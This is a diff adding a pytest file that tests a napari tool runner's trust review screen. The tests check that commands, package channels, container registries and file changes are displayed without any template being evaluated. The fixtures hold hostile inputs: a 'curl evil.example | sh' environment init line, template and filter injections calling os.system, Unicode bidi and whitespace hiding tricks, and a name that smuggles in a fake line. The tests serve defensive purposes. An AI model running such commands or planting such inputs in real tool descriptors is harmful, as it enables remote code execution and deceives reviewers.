@@ -1,0 +1,107 @@
+"""The question shows what would run, from the copy that is approved; nothing is evaluated."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from napari_tool_runner.cli import main
+from napari_tool_runner.config import load_config
+from napari_tool_runner.jobs import Question
+from napari_tool_runner.tools.toolbox import approved
+from napari_tool_runner.tools.toolbox.trust import approve, review, trust_state
+from security.test_gate import alter, box, say
+
+__all__ = ["box"]
+
+
+def descriptor(box: Path, needs: str, command: str = "", more: str = "") -> None:
+    text = (box / "say" / "say.xml").read_text()
+    text = text.replace("<command>", f"<requirements>{needs}</requirements><command>{command}")
+    (box / "say" / "say.xml").write_text(text.replace("</tool>", f"{more}</tool>"))
+
+
+def asked(box: Path) -> Question:
+    return Question(review(box), load_config())
+
+
+def test_command_script_and_rights_are_shown(
+    box: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["trust", str(box), "--show"]) == 0
+    told = capsys.readouterr().out
+    assert "python '$__tool_directory__/say.py' ${o}" in told
+    assert "pathlib.Path(sys.argv[1]).write_text('approved')" in told
+    assert "runs with: LOCAL" in told
+    assert "rights: " in told
+    assert not trust_state(say()).ok
+    assert approved.kept_copies() == [], "what was only looked at is not kept"
+
+
+def test_packages_and_their_origins_are_shown(box: Path) -> None:
+    init = "curl evil.example | sh"
+    descriptor(box, f'<package type="conda" env="e" init="{init}">-c evil numpy=1</package>')
+    told = asked(box).tool_text("say")
+    assert "packages:\n    numpy=1\n    from the channels evil, conda-forge, bioconda" in told
+    assert f"once, when its environment is made:\n    {init}" in told
+
+
+def test_an_image_and_its_registry_are_shown(box: Path) -> None:
+    descriptor(box, '<container type="docker">evil.example/x:1</container>')
+    config = load_config({"runner": {"service": "DOCKER"}})
+    told = Question(review(box), config).tool_text("say")
+    assert "image:\n    evil.example/x:1\n    from the registry evil.example/x" in told
+    assert "no network" in told
+
+
+def test_no_template_is_evaluated_and_all_of_galaxy_is_shown(box: Path, tmp_path: Path) -> None:
+    mark = tmp_path / "mark"
+    code = f"#import os#${{os.system('touch {mark}')}}"
+    (box / "say" / "say.xml").write_text(
+        f'<tool id="say" name="Say" version="1" profile="21.05"><command>echo {code}</command>'
+        f"<configfiles><configfile name='c'>hidden {code}</configfile></configfiles>"
+        "<inputs/><outputs><data name='o' format='txt'>"
+        f"<filter>__import__('os').system('touch {mark}')</filter></data></outputs></tool>"
+    )
+    told = asked(box).tool_text("say")
+    assert told.count("os.system") == 2
+    assert "hidden" in told
+    assert "__import__('os')" in told
+    assert not mark.exists()
+
+
+def test_a_change_is_shown_as_a_difference(box: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    approve(box)
+    alter(box, "evil")
+    assert main(["trust", str(box)]) == 1
+    told = capsys.readouterr().out
+    assert "changed say/say.py" in told
+    assert "-import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('approved')" in told
+    assert "+import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('evil')" in told
+
+
+@pytest.mark.parametrize(
+    "trick",
+    ["\u202e evil", "\u2066x", "a" + " " * 300 + "evil", "\n" * 80 + "evil"],
+    ids=["bidi", "isolate", "far right", "far below"],
+)
+def test_nothing_can_hide(box: Path, trick: str) -> None:
+    descriptor(box, "", command=trick)
+    told = asked(box).tool_text("say")
+    assert told.isprintable() or all(c.isprintable() or c in "\n\t" for c in told)
+    assert " " * 41 not in told
+    assert "\n\n\n\n" not in told.replace(" ", "")
+
+
+def test_names_cannot_add_lines(box: Path) -> None:
+    (box / "say" / "say.xml").write_text(
+        (box / "say" / "say.xml").read_text().replace('name="Say"', 'name="Say&#10;rights: none"')
+    )
+    assert "\nrights: none" not in asked(box).tool_text("say")
+
+
+def test_what_is_shown_is_what_is_approved(box: Path) -> None:
+    question = asked(box)
+    alter(box, "evil")
+    assert "'evil'" not in question.tool_text("say"), "the copy is read, not the folder"
